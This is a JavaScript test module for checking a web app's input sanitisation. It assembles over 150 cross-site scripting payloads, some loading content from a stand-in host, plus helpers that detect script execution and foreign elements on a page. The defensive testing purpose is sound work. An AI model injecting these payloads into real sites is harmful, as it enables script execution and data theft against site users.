// At least 150 texts that run a script wherever a page takes text for HTML, an address or code; each would call
// `__xss()` or fetch something from elsewhere. And what a page must look like after it was shown them.

import assert from 'node:assert/strict';

const CALL = '__xss(1)';
const ELSEWHERE = 'https://xss.invalid/x';

const HANDLERS = [
  'img src=x onerror', 'image src=x onerror', 'svg onload', 'svg/onload', 'body onload', 'body onpageshow', 'input autofocus onfocus',
  'select autofocus onfocus', 'textarea autofocus onfocus', 'button autofocus onfocus', 'details open ontoggle', 'video src=x onerror',
  'video autoplay onloadstart src=data:,', 'audio src=x onerror', 'source src=x onerror', 'iframe onload', 'object data=x onerror',
  'embed src=x onerror', 'link rel=stylesheet href=x onerror', 'style onload', 'script src=x onerror', 'marquee onstart', 'marquee loop=1 onfinish',
  'div tabindex=0 autofocus onfocus', 'p contenteditable autofocus onfocus', 'a href=# autofocus onfocus', 'keygen autofocus onfocus',
  'meter onmouseover', 'dialog open onclose', 'form onsubmit', 'isindex type=image src=x onerror', 'math href=x onclick',
  'svg><animate onbegin', 'svg><set onbegin', 'svg><image href=x onerror', 'svg><foreignObject><body onload', 'x onanimationstart style=animation:a',
  'x ontransitionend style=transition:1s', 'table background=x onload', 'track src=x onerror',
];
const WRAPS = [
  (text) => text,
  (text) => `"><${text.slice(1)}`,
  (text) => `'></textarea></title></option></select></style></script>${text}`,
];
const OTHERS = [
  `<script>${CALL}</script>`, `<SCRIPT>${CALL}</SCRIPT>`, `<scr<script>ipt>${CALL}</scr</script>ipt>`, `<script src=${ELSEWHERE}></script>`,
  `</script><script>${CALL}</script>`, `<script>/*</script><script>*/${CALL}</script>`, `<script type=module>${CALL}</script>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`, `<iframe src="javascript:parent.${CALL}"></iframe>`, `<iframe src=${ELSEWHERE}>`,
  `<a href="javascript:${CALL}" id=xss-link>x</a>`, `<a href="java\tscript:${CALL}">x</a>`, `<a href="&#106;avascript:${CALL}">x</a>`,
  `<form action="javascript:${CALL}"><button>x`, `<button formaction="javascript:${CALL}">x`, `<object data="javascript:${CALL}">`,
  `<object data="${ELSEWHERE}">`, `<embed src="${ELSEWHERE}">`, `<base href="${ELSEWHERE}">`, `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`, `<link rel=stylesheet href=${ELSEWHERE}>`, `<link rel=prefetch href=${ELSEWHERE}>`,
  `<style>@import '${ELSEWHERE}'</style>`, `<style>*{background:url(${ELSEWHERE})}</style>`, `<div style="background:url(${ELSEWHERE})">`,
  `<img src=${ELSEWHERE}>`, `<img srcset="${ELSEWHERE} 1x">`, `<picture><source srcset=${ELSEWHERE}><img></picture>`, `<video poster=${ELSEWHERE}>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`, `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<svg><script>${CALL}</script></svg>`, `<svg><style><img src=x onerror=${CALL}></style></svg>`, `<svg><a href="javascript:${CALL}"><text>x`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${CALL}>#x">`, `<template><img src=x onerror=${CALL}></template>`,
  `![x](${ELSEWHERE})`, `[x](javascript:${CALL})`, `[x](data:text/html,<script>${CALL}</script>)`, `<javascript:${CALL}>`, `javascript:${CALL}`,
  `javascript:/*--></title></style></textarea></script><svg/onload=${CALL}>`, `data:text/html,<script>${CALL}</script>`,
  `{{constructor.constructor('${CALL}')()}}`, `\${${CALL}}`, `<%= ${CALL} %>`, `"onfocus="${CALL}" autofocus="`, `' onmouseover='${CALL}`,
  `\u0000<img src=x onerror=${CALL}>`, `<img src=x onerror=${CALL}\u2028>`, `＜script＞${CALL}＜/script＞`, `<img\u00a0src=x onerror=${CALL}>`,
  `&lt;img src=x onerror=${CALL}&gt;`, `&#60;img src=x onerror=${CALL}&#62;`, `%3Cimg%20src%3Dx%20onerror%3D${CALL}%3E`, `<!--><img src=x onerror=${CALL}>-->`,
  `<![CDATA[<img src=x onerror=${CALL}>]]>`, `<?xml-stylesheet href="javascript:${CALL}"?>`, `]]><img src=x onerror=${CALL}>`,
  `__proto__`, `constructor`, `');${CALL};//`, `";${CALL};//`, `\`;${CALL};//`, `=HYPERLINK("${ELSEWHERE}")`,
];

/** The texts, each once. */
export const PAYLOADS = [...new Set([
  ...HANDLERS.flatMap((start) => WRAPS.map((wrap) => wrap(`<${start}=${CALL}>`))),
  ...OTHERS,
])];

assert.ok(PAYLOADS.length >= 150, `${PAYLOADS.length} payloads`);

/** What our pages are made of; nothing else may appear. */
const ELEMENTS = `html head base meta title link script body header footer nav main article section aside div p span a ul ol li dl dt dd
  h1 h2 h3 h4 h5 h6 button input textarea select option optgroup label fieldset legend form table caption thead tbody tr th td colgroup col code pre
  kbd em strong b i small sub sup mark abbr q blockquote cite br hr wbr time output progress meter details summary figure figcaption dialog canvas
  svg path rect line polyline polygon circle ellipse text tspan g defs desc img noscript
  math mi mn mo ms mtext mspace mrow mfrac msqrt mroot msub msup msubsup munder mover munderover mtable mtr mtd mstyle mpadded mphantom semantics annotation`
  .split(/\s+/).filter(Boolean);

/** Watches a page from before its first script. */
export async function watch(page) {
  const seen = [];
  await page.exposeBinding('__xss', () => { seen.push(`executed on ${page.url().slice(0, 120)}`); });
  page.on('dialog', (dialog) => { seen.push(`dialog ${dialog.message()}`); dialog.dismiss(); });
  return seen;
}

/** Every element is one of ours, and none carries what a payload brought. */
export async function assertUnharmed(page, seen, where) {
  const strange = await page.evaluate((allowed) => {
    const found = [];
    const own = (address) => new URL(address, document.baseURI).origin === location.origin;
    for (const element of document.querySelectorAll('*')) {
      const tag = element.localName;
      const told = element.outerHTML.slice(0, 120);
      if (!allowed.includes(tag)) found.push(`element ${told}`);
      if (tag === 'base' && !own(element.href)) found.push(`base ${told}`);
      // What describes the page to search engines is data and runs nowhere.
      const data = tag === 'script' && element.type === 'application/ld+json' && !element.text.includes('__xss');
      if (tag === 'script' && !data && (!element.src || !own(element.src))) found.push(`script ${told}`);
      if (tag === 'img' && !own(element.src) && !/^(data|blob):/.test(element.src)) found.push(`image ${told}`);
      for (const { name, value } of element.attributes) {
        if (/^on/.test(name) || name === 'srcdoc') found.push(`attribute ${name}: ${told}`);
        if (/^(href|src|action|formaction|data|xlink:href|poster|srcset|background)$/.test(name) && /^\s*(javascript|data:text|vbscript|https?:\/\/xss)/i.test(value)) {
          found.push(`address ${name}: ${told}`);
        }
      }
    }
    return found.slice(0, 5);
  }, ELEMENTS);
  assert.deepEqual(strange, [], `${where}: elements`);
  assert.deepEqual(seen, [], `${where}: executions`);
}
